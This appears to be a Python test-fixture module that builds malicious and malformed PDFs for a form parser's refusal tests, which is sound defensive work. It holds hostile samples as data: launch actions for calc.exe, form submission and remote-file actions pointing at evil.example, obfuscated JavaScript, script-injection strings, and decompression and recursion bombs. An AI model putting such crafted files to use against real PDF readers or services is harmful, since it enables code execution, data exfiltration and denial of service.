"""Files that mean harm, each with the ways in which it may be refused; for the tests beside it and for bench."""

import random
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from forms.refusals import (
    Damaged,
    Locked,
    NotAPdf,
    NotOurs,
    NotUsable,
    OtherLayout,
    TakesTooLong,
    TooLarge,
    TooMuch,
    Unsafe,
)
from tests.forms.hostile import (
    Change,
    act,
    attach,
    changed,
    content,
    laughing,
    many_fields,
    more_pages,
    nested_pages,
    on_page,
    packed_twice,
    plain,
    put,
    rename,
    script,
)

UNSAFE: dict[str, tuple[Change, dict[str, object]]] = {
    "a script when it opens": (put("root.OpenAction", script), {}),
    "a place when it opens": (put("root.OpenAction", lambda: Array([0, Name.Fit])), {}),
    "a script among its names": (
        put("root.Names", lambda: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))), {}
    ),
    "a script packed among other objects": (
        put("root.PieceInfo", lambda: Dictionary(A=script())),
        {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    ),
    "an act when a page is seen": (put("page.AA", lambda: Dictionary(O=script())), {}),
    "an act of a field": (put("form.AA", Dictionary), {}),
    "a program to start": (act(S=Name.Launch, F=String("calc.exe")), {}),
    "another file to open": (act(S=Name.GoToR, F=String("//evil.example/a.pdf")), {}),
    "an address to send to": (act(S=Name.SubmitForm, F=String("https://evil.example")), {}),
    "data to fetch": (act(S=Name.ImportData, F=String("a.fdf")), {}),
    "a file inside": (attach, {}),
    "a form in XML": (put("form.XFA", lambda: Array([String("a"), String("b")])), {}),
    "a film": (on_page(Dictionary(Subtype=Name.RichMedia)), {}),
}  # fmt: skip


def corpus(good: bytes) -> Iterator[tuple[str, bytes, tuple[type[NotUsable], ...]]]:
    """Name, file and the ways in which it may be refused; none where it must be read, safely."""
    for name, (change, how) in UNSAFE.items():
        yield name, changed(good, change, **how), (Unsafe,)
    yield (
        "a script under another spelling",
        plain(
            [
                b"<< /Type /Catalog /Pages 2 0 R /Op#65nAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
                b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            ]
        ),
        (Unsafe,),
    )
    for password in ("", "secret"):
        locked = pikepdf.Encryption(owner="owner", user=password)
        yield f"locked with '{password}'", changed(good, lambda pdf: None, encryption=locked), (Locked,)
    yield "a huge stream", changed(good, content(b" " * 60_000_000)), (TooMuch,)
    yield "drawings of drawings", changed(good, laughing()), (Damaged, TakesTooLong)
    yield "a stream packed twice", packed_twice(200_000_000), (TooMuch,)
    yield "a deep tree of pages", nested_pages(400), (TooMuch,)
    yield "many pages", changed(good, more_pages(30)), (TooMuch,)
    yield "very many pages", changed(good, more_pages(2_000)), (TooMuch,)
    yield "very many fields", changed(good, many_fields), (TooMuch,)
    yield (
        "a tree of pages in a ring",
        plain([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"]),
        (TooMuch, Damaged, NotOurs),
    )
    yield "a hundred thousand brackets", plain([b"[" * 100_000]), (TooMuch, Damaged)
    yield (
        "six thousand objects",
        plain([b"<< /Type /Catalog /Pages 2 0 R >>", *[b"<< >>"] * 6_000]),
        (TooMuch,),
    )
    for part in (0.1, 0.5, 0.9, 0.99):
        yield f"cut off at {part}", good[: int(len(good) * part)], (Damaged, NotOurs, TooMuch)
    yield "nothing but a beginning", b"%PDF-1.7\n", (Damaged,)
    yield "a beginning and noise", b"%PDF-1.7\n" + random.Random(7).randbytes(50_000), (Damaged,)
    yield "nothing", b"", (NotAPdf,)
    yield "a picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 99, (NotAPdf,)
    yield "a page of the web", b"<html><script>alert(1)</script>%PDF-1.7", (NotAPdf,)
    yield "a line before the beginning", b"\n" + good, (NotAPdf,)
    yield "eleven megabytes", good + b" " * 11_000_000, (TooLarge,)
    yield "an archive behind it", good + b"PK\x03\x04" + b"\0" * 400, ()
    yield "a page of the web behind it", good + b"<html><script>alert(1)</script>", ()
    yield "somebody else's form", changed(good, rename("portal.number", "R-1")), (NotOurs,)
    yield "another layout", changed(good, rename("portal.layout", "secret 1")), (OtherLayout,)
    yield "an empty stranger's file", nested_pages(1), (NotOurs,)


def mutations(good: bytes, count: int, seed: int = 20261121) -> Iterator[bytes]:
    """Damaged in as many ways: bytes changed, taken out, doubled, and pieces in the wrong place."""
    chance = random.Random(seed)
    words = [b"/JS", b"/AA", b"obj", b"endstream", b"99999999999", b"-1", b"<<", b"]", b"/Kids", b"R", b"\0"]
    for _ in range(count):
        bad = bytearray(good)
        for _ in range(chance.choice((1, 1, 2, 5, 40))):
            at = chance.randrange(5, len(bad))
            match chance.randrange(5):
                case 0:
                    bad[at] = chance.randrange(256)
                case 1:
                    del bad[at : at + chance.randrange(1, 300)]
                case 2:
                    bad[at:at] = bad[at : at + chance.randrange(1, 300)]
                case 3:
                    word = chance.choice(words)
                    bad[at : at + len(word)] = word
                case _:
                    bad[at:at] = chance.choice(words)
            if len(bad) < 50:
                break
        yield bytes(bad)
